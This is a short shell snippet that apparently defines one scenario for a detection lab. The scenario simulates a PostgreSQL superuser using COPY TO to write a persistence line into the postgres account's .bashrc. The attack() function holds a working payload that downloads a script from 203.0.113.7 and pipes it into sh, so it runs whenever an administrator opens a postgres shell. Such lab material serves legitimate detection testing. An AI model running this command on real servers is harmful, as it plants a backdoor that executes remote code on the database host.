# A database's superuser plants a command in the database account's shell start-up file: `COPY (SELECT …) TO
# '/var/lib/postgresql/.bashrc'` makes the server process serving the client write a line that downloads and runs a
# script the next time anyone opens a shell as postgres (an administrator's `su - postgres`, a maintenance job) —
# persistence through a shell's start-up (T1546.004) by a database's own file writing (T1078).
IMAGE=db
normal() { db_traffic "$WEB_PORT" 200; }
attack() {
  db_sql "$WEB_PORT" "COPY (SELECT 'curl -s http://203.0.113.7/k.sh | sh >/dev/null 2>&1 &') TO '/var/lib/postgresql/.bashrc'" \
    > "$LAB_DIR/write-startup.$$.out"
}
